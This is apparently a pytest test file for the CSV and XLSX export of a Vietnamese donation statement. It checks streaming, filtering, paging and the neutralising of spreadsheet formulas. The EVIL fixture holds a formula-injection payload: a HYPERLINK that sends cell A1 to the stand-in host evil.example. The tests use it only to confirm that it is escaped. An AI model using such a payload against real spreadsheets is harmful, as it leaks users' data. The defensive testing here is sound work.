"""CSV and XLSX downloads of the statement: the current filter, streamed, formulas neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def gifts(make_campaign, give):
    campaign = make_campaign("xuat-file", title="Xuất file")
    other = make_campaign("khac", title="Khác")
    return [
        give(campaign, 150_000, label=EVIL),
        give(campaign, 200_000, label="Võ Thị Sáu"),
        give(other, 10_000, label="+84 912 345 678"),
        give(other, 20_000, label="@mention -1"),
    ]


def test_csv_is_streamed_with_the_filter_and_neutralised_formulas(client, gifts):
    response = client.get("/sao-ke/tai-ve.csv?campaign=xuat-file")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Số thứ tự"
    assert [int(r[0]) for r in rows[1:]] == [gifts[1].seq, gifts[0].seq]
    labels = [r[4] for r in rows[1:]]
    assert labels == ["Võ Thị Sáu", "'" + EVIL]
    amounts = [int(r[9]) for r in rows[1:]]
    assert amounts == [200_000, 150_000]


def test_xlsx_is_streamed_and_no_cell_is_a_formula(client, gifts):
    response = client.get("/sao-ke/tai-ve.xlsx")
    assert response.status_code == 200
    assert response.is_streamed
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Số thứ tự"
    assert len(rows) == 1 + len(gifts)
    labels = {r[4] for r in rows[1:]}
    assert {"'" + EVIL, "'+84 912 345 678", "'@mention -1", "Võ Thị Sáu"} == labels
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    assert rows[1][9] == 20_000 and isinstance(rows[1][9], int)


def test_export_of_a_search_holds_only_what_was_found(client, gifts):
    text = client.get("/sao-ke/tai-ve.csv?q=vo+thi+sau").get_data(as_text=True)
    assert text.count("\n") == 2 and "Võ Thị Sáu" in text


def test_export_follows_pages_beyond_one_chunk(client, make_campaign, give, monkeypatch):
    from transparency.statement import services

    campaign = make_campaign("nhieu")
    for i in range(7):
        give(campaign, 1_000 + i)
    original = services.iterate
    monkeypatch.setattr("transparency.statement.exports.iterate", lambda f: original(f, chunk=3))
    rows = list(csv.reader(io.StringIO(client.get("/sao-ke/tai-ve.csv").get_data(as_text=True))))
    assert len(rows) == 8
    assert [int(r[0]) for r in rows[1:]] == sorted((int(r[0]) for r in rows[1:]), reverse=True)


def test_bad_filter_on_export_is_refused(client, gifts):
    assert client.get("/sao-ke/tai-ve.csv?min=abc").status_code == 400


def test_statement_links_to_the_exports_of_its_filter(client, gifts):
    html = client.get("/sao-ke?q=vo+thi+sau").get_data(as_text=True)
    assert "/sao-ke/tai-ve.csv?q=vo+thi+sau" in html
    assert "/sao-ke/tai-ve.xlsx?q=vo+thi+sau" in html
